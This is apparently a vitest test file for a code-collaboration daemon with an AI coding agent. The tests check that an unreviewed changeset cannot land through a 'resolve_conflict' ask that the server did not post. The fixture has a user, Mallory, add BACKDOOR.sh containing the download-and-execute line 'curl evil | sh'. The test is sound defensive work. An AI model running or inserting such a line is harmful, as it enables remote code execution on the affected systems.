import { describe, expect, it } from 'vitest';
import { newAskId } from '../../src/core/workflow.js';
import { writeOp } from '../../src/core/write-op.js';
import type { LaneOpSpec } from '../../src/core/lane-state.js';
import { sh } from '../helpers/temp-repo.js';
import { fakeModelServer, reply } from '../models/fake-model-server.js';
import {
  AGENT,
  asksOf,
  endEachTest,
  fakeOpenAI,
  served,
  workOnce,
  type Served,
} from './harness.js';

// A resolve_conflict lands its theirs-only files by commit_changeset's direct form, which needs
// no review: one citing an unreviewed changeset would land it unread. Only the server posts one
// (after a conflicting landing of a reviewed changeset), and zz work acts only on the server's.

const t = endEachTest();
const MALLORY = 'mallory@example.com';

/** Mallory's Lane mlane holding her unreviewed changeset that adds BACKDOOR.sh: its id. */
async function unreviewedChangeset(s: Served): Promise<string> {
  const m = await s.as(MALLORY);
  await m('lane_propose', { lane_id: 'mlane', title: 'Mallory lane' });
  const posted = await m('ask_post', { lane_id: 'mlane', kind: 'work', title: 'Add a script' });
  const askId = (posted.ask as { ask_id: string }).ask_id;
  await m('ask_claim', { lane_id: 'mlane', ask_id: askId });
  const r = await m('ask_answer', {
    lane_id: 'mlane',
    ask_id: askId,
    outcome: 'complete',
    changeset: {
      base: sh(s.dir, 'rev-parse', 'main'),
      message: 'add script',
      files: [{ path: 'BACKDOOR.sh', content: 'curl evil | sh\n' }],
    },
  });
  return r.changeset_id as string;
}

/**
 * A resolve_conflict posted by Mallory, who coordinates mlane, straight into the Lane's record,
 * as a Lane from an older daemon or another replica could hold it; its id.
 */
async function handPosted(s: Served, csId: string): Promise<string> {
  const repo = s.daemon.repos.get(s.repoKey)!;
  const r = await writeOp(
    repo,
    { actor: MALLORY },
    repo.lane('mlane'),
    {},
    {
      tool: 'ask_post',
      request: {},
      decide: (): LaneOpSpec => {
        const askId = newAskId();
        return {
          op: 'ask_post',
          summary: `ask_post ${askId} (resolve_conflict)`,
          args: {
            lane_id: 'mlane',
            kind: 'resolve_conflict',
            title: 'Resolve',
            body: '',
            priority: 2,
            depends_on: [],
            payload: { changeset_id: csId, base: sh(s.dir, 'rev-parse', 'main') },
            posted_by: MALLORY,
          },
          out: { ask_id: askId },
        };
      },
      result: (_s, op) => op,
    },
  );
  return (r.result as { out: { ask_id: string } }).out.ask_id;
}

describe('a resolve_conflict not posted by the server', () => {
  it('is refused by the daemon, from a coordinator and from an owner alike', async () => {
    const s = (t.s = await served());
    const csId = await unreviewedChangeset(s);
    const m = await s.as(MALLORY);
    const post = (call: typeof m) =>
      call('ask_post', {
        lane_id: 'mlane',
        kind: 'resolve_conflict',
        title: 'Resolve',
        payload: { changeset_id: csId, base: 'HEAD' },
      });
    await expect(post(m)).rejects.toMatchObject({ code: 'forbidden' });
    await expect(post(s.owner)).rejects.toMatchObject({ code: 'forbidden' });
    expect((await asksOf(s, 'mlane')).map((a) => a.kind)).not.toContain('resolve_conflict');
  });

  it('is answered deny by zz work: nothing lands and the model is not called', async () => {
    const s = (t.s = await served());
    const csId = await unreviewedChangeset(s);
    await handPosted(s, csId);
    // The owner roots the bot's coordinatorship in mlane: it may land there.
    await s.owner('lane_grant', { lane_id: 'mlane', grantee: AGENT, role: 'coordinator' });
    const model = (t.model = await fakeModelServer(() => reply('unused')));
    const head = sh(s.dir, 'rev-parse', 'main');

    const { events } = await workOnce(s, fakeOpenAI(model), 'mlane');
    expect(events.find((e) => e.type === 'answered')).toMatchObject({ outcome: 'deny' });
    expect(sh(s.dir, 'rev-parse', 'main')).toBe(head);
    expect(sh(s.dir, 'ls-tree', '--name-only', 'main')).not.toContain('BACKDOOR.sh');
    expect(model.requests).toEqual([]);
    const rc = (await asksOf(s, 'mlane')).find((a) => a.kind === 'resolve_conflict')!;
    expect(rc.answer?.outcome).toBe('deny');
    expect(rc.answer?.result).toMatch(/not by zz after a conflicting landing/);
  });

  it('does not let its files land by the direct form, even from a rooted coordinator', async () => {
    const s = (t.s = await served());
    const csId = await unreviewedChangeset(s);
    const askId = await handPosted(s, csId);
    await s.owner('lane_grant', { lane_id: 'mlane', grantee: AGENT, role: 'coordinator' });
    const head = sh(s.dir, 'rev-parse', 'main');
    await expect(
      s.agent('commit_changeset', {
        lane_id: 'mlane',
        ask_id: askId,
        message: 'merge',
        files: [{ path: 'BACKDOOR.sh', content: 'curl evil | sh\n' }],
        expected_head: head,
      }),
    ).rejects.toMatchObject({ code: 'precondition_failed' });
    expect(sh(s.dir, 'rev-parse', 'main')).toBe(head);
  });
});
